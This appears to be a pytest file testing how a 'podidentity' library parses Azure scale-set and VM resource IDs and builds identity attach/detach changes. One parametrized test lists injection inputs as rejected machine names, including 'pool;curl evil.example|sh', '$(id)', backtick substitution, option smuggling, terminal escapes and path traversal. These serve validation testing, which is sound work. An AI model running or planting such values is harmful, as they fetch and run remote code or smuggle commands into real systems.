from __future__ import annotations

from dataclasses import replace

import pytest

from podidentity.core.hosts import Host, HostChange, HostIdentities, NotAnAzureNode
from tests.core.objects import resource_id

SET = (
    "/subscriptions/s/resourceGroups/MC_g/providers"
    "/Microsoft.Compute/virtualMachineScaleSets/aks-pool-vmss"
)
MACHINE = "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/vm-0"


def test_an_instance_of_a_scale_set_stands_for_the_scale_set() -> None:
    host = Host.of_node(f"azure://{SET}/virtualMachines/3")
    assert (host.resource_id, host.name, host.is_scale_set) == (SET, "aks-pool-vmss", True)


def test_a_machine_of_its_own_stands_for_itself() -> None:
    host = Host.of_node(f"azure://{MACHINE}")
    assert (host.resource_id, host.name, host.is_scale_set) == (MACHINE, "vm-0", False)


def test_two_nodes_of_one_scale_set_are_one_host_whatever_the_case() -> None:
    nodes = [f"azure://{SET}/virtualMachines/0", f"azure://{SET.upper()}/VIRTUALMACHINES/1"]
    assert len({Host.of_node(node) for node in nodes}) == 1


def test_a_host_is_the_same_by_its_own_id_and_by_its_nodes() -> None:
    assert Host.parse(SET.lower()) == Host.of_node(f"azure://{SET}/virtualMachines/3")
    assert Host.parse(MACHINE) == Host.of_node(f"azure://{MACHINE}")
    assert Host.parse(MACHINE) != Host.parse(SET)
    assert Host.parse(MACHINE) != MACHINE


def test_subscriptions_and_groups_compare_without_case() -> None:
    assert Host.parse(SET.replace("/s/", "/S/")).subscription == "s"
    assert Host.parse(SET).group == "mc_g"


@pytest.mark.parametrize(
    "text", ["", f"azure://{MACHINE}", f"{SET}/virtualMachines/0", SET.replace("Compute", "x")]
)
def test_what_is_no_id_of_a_host_is_refused_with_a_reason(text: str) -> None:
    with pytest.raises(NotAnAzureNode, match="names no machine"):
        Host.parse(text)


@pytest.mark.parametrize(
    "provider_id",
    [
        "",
        "azure://",
        "aws:///eu-west-1a/i-0123",
        f"azure://{SET}",
        f"azure://{MACHINE}/virtualMachines/0",
        f"azure://{MACHINE}/extensions/x",
        "kind://docker/kind/kind-control-plane",
    ],
)
def test_what_is_no_node_of_azure_is_refused_with_a_reason(provider_id: str) -> None:
    with pytest.raises(NotAnAzureNode, match="names no"):
        Host.of_node(provider_id)


@pytest.mark.parametrize(
    "name",
    [
        "pool;curl evil.example|sh",
        "pool$(id)",
        "pool`id`",
        "pool --ids x",
        "pool\x1b[2Jgone",
        "pool\nok",
        "pool\u202eoops",
        "pool'x",
        "..",
        "p" * 129,
    ],
)
@pytest.mark.parametrize("place", ["aks-pool-vmss", "MC_g"])
def test_what_a_shell_or_a_terminal_obeys_is_no_name_of_a_machine(name: str, place: str) -> None:
    with pytest.raises(NotAnAzureNode, match="names no"):
        Host.parse(SET.replace(place, name))
    with pytest.raises(NotAnAzureNode, match="names no"):
        Host.of_node(f"azure://{SET.replace(place, name)}/virtualMachines/3")


def test_a_resource_group_may_have_letters_of_any_script() -> None:
    assert Host.parse(SET.replace("MC_g", "MC_größe(1)")).group == "mc_größe(1)"


ONE, TWO = resource_id(1), resource_id(2)
HAS_ONE = HostIdentities(user={ONE.folded: ONE.spelling})


def test_a_host_has_what_azure_lists_whatever_the_case() -> None:
    assert HAS_ONE.has(ONE)
    assert not HAS_ONE.has(TWO)


@pytest.mark.parametrize(
    ("state", "settled", "being_deleted"),
    [
        ("succeeded", True, False),
        ("", True, False),
        ("updating", False, False),
        ("failed", False, False),
        ("deleting", True, True),
    ],
)
def test_what_is_listed_is_there_unless_a_change_is_under_way_or_has_failed(
    state: str, *, settled: bool, being_deleted: bool
) -> None:
    found = HostIdentities(state=state)
    assert (found.settled, found.being_deleted) == (settled, being_deleted)


def test_a_change_says_what_is_left_as_azure_wants_it_said() -> None:
    change = HostChange.of(HAS_ONE, attach=[TWO])
    assert (change.attach, change.detach) == ((TWO.spelling,), ())
    assert (change.system, change.user) == (False, True)
    swap = HostChange.of(HAS_ONE, attach=[TWO], detach=[ONE.folded])
    assert (swap.attach, swap.detach, swap.user) == ((TWO.spelling,), (ONE.spelling,), True)
    last = HostChange.of(HAS_ONE, detach=[ONE.folded])
    assert (last.attach, last.detach, last.user) == ((), (ONE.spelling,), False)
    assert HostChange.of(HAS_ONE).user, "what it does not name stays"
    assert HostChange.of(HostIdentities(system=True)).system
    assert replace(change, clients=((TWO.spelling, frozenset({"x"})),)) == change, "not of Azure"
